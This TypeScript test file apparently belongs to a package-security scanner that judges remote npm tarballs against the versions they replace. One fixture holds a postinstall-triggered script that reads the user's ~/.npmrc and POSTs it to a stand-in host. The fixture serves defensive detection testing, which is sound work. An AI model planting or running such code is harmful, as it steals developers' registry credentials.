import { describe, expect, it } from '@jest/globals';
import type { IncomingChange } from '../../src/model/package.ts';
import { added } from '../../src/rules/example.ts';
import { rules } from '../../src/rules/index.ts';
import { aPackage } from '../helpers/a-tarball.ts';
import { contentsFrom } from '../helpers/a-tarball-registry.ts';

const evil =
  'const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");\nfetch("https://drop.example/x", { method: "POST", body: t });';
const good = aPackage({ name: 'far', version: '1.0.0' }, { 'index.js': 'module.exports = 1' });
const bad = aPackage({ name: 'far', version: '1.0.1', scripts: { postinstall: 'node x.js' } }, { 'index.js': 'module.exports = 1', 'x.js': evil });
const far = (version: string, resolved: string): IncomingChange => added('far', version, { source: 'remote', resolved });
const elsewhere = new Map([
  ['https://files.example/1.tgz', good],
  ['https://files.example/2.tgz', bad],
]);

describe('a package from a web address', () => {
  it('is judged by its bytes, against those it replaces', async () => {
    const change: IncomingChange = {
      action: 'change',
      before: far('1.0.0', 'https://files.example/1.tgz').after,
      after: far('1.0.1', 'https://files.example/2.tgz').after,
    };
    const { contents } = await contentsFrom({ packages: [], change, elsewhere });
    expect(contents).toMatchObject({ ok: true, value: { against: '1.0.0', confusion: [], install: [{ trigger: 'postinstall', isNew: true }] } });
    expect(contents.ok && contents.value.capabilities.some(({ reach }) => reach === 'install')).toBe(true);
  });

  it('is judged whole where nothing is known of the one before', async () => {
    const { contents } = await contentsFrom({ packages: [], change: far('1.0.1', 'https://files.example/2.tgz'), elsewhere });
    expect(contents.ok && contents.value.against).toBeUndefined();
    expect(contents.ok && contents.value.capabilities.length).toBeGreaterThan(0);
  });

  it('is not taken for clean when its bytes cannot be had', async () => {
    const change = far('1.0.1', 'https://files.example/3.tgz');
    const reason = 'the tarball cannot be had';
    expect((await contentsFrom({ packages: [], change, elsewhere })).contents).toEqual({ ok: false, why: 'not-offered', reason });
    const damaged = new Map([['https://files.example/3.tgz', bad.subarray(0, 90)]]);
    expect((await contentsFrom({ packages: [], change, elsewhere: damaged })).contents).toMatchObject({ ok: false, why: 'failed' });
  });

  it('is looked at by every rule that needs contents alone', () => {
    const onBytes = rules.filter(({ needs }) => needs.length > 0 && needs.every((kind: string) => kind === 'contents'));
    expect(onBytes.length).toBeGreaterThan(15);
    for (const { sources } of onBytes) expect(sources).toEqual(['registry', 'remote', 'git', 'file']);
  });
});
